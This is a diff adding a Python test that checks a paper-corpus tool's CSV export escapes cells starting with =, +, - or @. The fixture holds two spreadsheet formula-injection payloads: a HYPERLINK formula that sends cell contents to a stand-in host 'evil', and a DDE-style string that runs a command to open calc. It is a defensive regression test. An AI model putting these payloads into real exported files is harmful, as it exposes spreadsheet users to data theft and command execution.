@@ -354,3 +354,19 @@ def test_pandoc_citeproc_renders_the_bibtex(
     assert "Lovelace, Ada, Jürgen Müller, and María de la Cruz" in out
     assert "https://doi.org/10.1000/rse" in out
     assert "[WARNING]" not in run.stderr
+
+
+def test_csv_cells_never_start_a_spreadsheet_formula(tmp_path: Path) -> None:
+    """A dump is untrusted: a title or tag starting with = + - @ is exported as text."""
+    dump = write_dump(
+        tmp_path / "evil.txt",
+        '=HYPERLINK("http://evil/?x="&A1,"click") is how this abstract starts, and then '
+        "it goes on about robust estimation for a while.",
+        "@SUM(1+1)*cmd|' /C calc'!A0 starts this one, which is about graphs.",
+    )
+    corpus = load_corpus([dump])
+    out = format_records([record(p) for p in corpus.papers], "csv")
+    for row in csv.DictReader(io.StringIO(out)):
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@")), value
+    assert "'=HYPERLINK" in out
